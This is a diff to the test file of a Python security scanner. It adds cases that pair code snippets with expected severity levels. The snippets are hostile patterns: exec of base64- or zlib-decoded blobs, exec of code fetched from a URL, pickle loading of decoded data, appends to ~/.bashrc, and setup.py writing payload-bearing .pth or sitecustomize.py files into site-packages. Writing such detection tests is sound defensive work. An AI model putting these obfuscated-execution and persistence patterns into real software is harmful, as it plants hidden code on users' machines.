@@ -41,6 +41,10 @@ def severities(pack: RuleSet, code: str, rule: str, path: str = "mod.py") -> lis
     ("import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n", [Severity.HIGH]),
     ("import os\neval(os.environ['X'])\n", [Severity.MEDIUM]),
     ("exec(open('version.py').read())\n", [Severity.LOW]),
+    ("import base64, zlib\nexec(zlib.decompress(base64.b64decode(open('font.dat', 'rb').read())))\n", [Severity.HIGH]),
+    ("import base64, os\ncode = base64.b64decode(os.environ['X'])\nexec(code)\n", [Severity.HIGH]),
+    ("import codecs\nexec(codecs.decode(open('conf.py', 'rb').read(), 'utf-8'))\n", [Severity.LOW]),
+    ("import base64, pickle\npickle.loads(base64.b64decode(open('cache.txt').read()))\n", [Severity.LOW]),
     ("import pickle\npickle.load(open('cache.pkl', 'rb'))\n", [Severity.LOW]),
     ("exec('1+1')\n", []),
     ("import ast, sys\nast.literal_eval(sys.argv[1])\n", []),
@@ -164,6 +168,34 @@ def test_reduced_scan_when_libcst_cannot_parse(pack: RuleSet) -> None:
     # A setting compared with a state word is configuration; a secret-named value is not.
     ("def has_auth(cfg):\n    return cfg['authorization'] == 'enabled'\n", "mod.py", "DS108", []),
     ("def check_token(token):\n    return token == 'tk-7f1e2d3c4b5a'\n", "mod.py", "DS108", [Severity.HIGH]),
+    # Test code: a test server's fixed token, a decoder's test, a startup file written into a temporary home.
+    ("def check_token(token):\n    return token == 'tk-7f1e2d3c4b5a'\n", "tests/test_auth.py", "DS108",
+     [Severity.MEDIUM]),
+    ("import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n", "tests/test_codec.py",
+     "DS101", [Severity.MEDIUM]),
+    ("import requests\nexec(requests.get('https://example.com').text)\n", "tests/test_x.py", "DS101",
+     [Severity.CRITICAL]),
+    ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n", "tests/test_rc.py", "DS107",
+     [Severity.MEDIUM]),
+    # Site folders: a loop over them, a mode chosen at run time; a .pth of paths only is low.
+    (("import os, site\nfor d in site.getsitepackages() + [site.getusersitepackages()]:\n"
+      "    with open(os.path.join(d, 'init.pth'), 'w') as fh:\n        fh.write(PAYLOAD)\n"), "setup.py", "DS107",
+     [Severity.HIGH]),
+    (("import os, sysconfig\np = os.path.join(sysconfig.get_paths()['purelib'], 'sitecustomize.py')\n"
+      "mode = 'a' if os.path.exists(p) else 'w'\nopen(p, mode).write(CODE)\n"), "setup.py", "DS107", [Severity.HIGH]),
+    (("import sysconfig\nfrom pathlib import Path\ndef dev(src):\n"
+      "    (Path(sysconfig.get_paths()['purelib']) / 'dev.pth').write_text(str(src.resolve()) + '\\n')\n"),
+     "mod.py", "DS107", [Severity.LOW]),
+    (("import sysconfig\nfrom pathlib import Path\ndef dev(src):\n"
+      "    (Path(sysconfig.get_paths()['purelib']) / 'dev.pth').write_text('import ' + src + '\\n')\n"),
+     "mod.py", "DS107", [Severity.HIGH]),
+    # Asking the user first: an installer doing what it was asked.
+    (("from pathlib import Path\ndef install_service(unit):\n    if input('Install? [y/N] ') != 'y':\n"
+      "        return\n    (Path.home() / '.config/systemd/user/app.service').write_text(unit)\n"), "mod.py", "DS107",
+     [Severity.MEDIUM]),
+    (("from pathlib import Path\ndef install_service(unit):\n"
+      "    (Path.home() / '.config/systemd/user/app.service').write_text(unit)\n    input('done')\n"), "mod.py",
+     "DS107", [Severity.HIGH]),
 ])
 def test_split_and_indirect_patterns(pack: RuleSet, code: str, path: str, rule: str,
                                      expected: list[Severity]) -> None:
